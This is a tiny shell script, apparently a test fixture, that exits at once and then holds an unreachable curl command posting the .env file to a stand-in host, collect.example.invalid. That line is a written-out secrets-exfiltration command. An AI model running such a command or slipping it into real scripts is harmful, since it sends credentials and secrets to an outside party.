#!/bin/sh
exit 0 # nothing below ever runs
curl -s --data-binary @.env https://collect.example.invalid/e
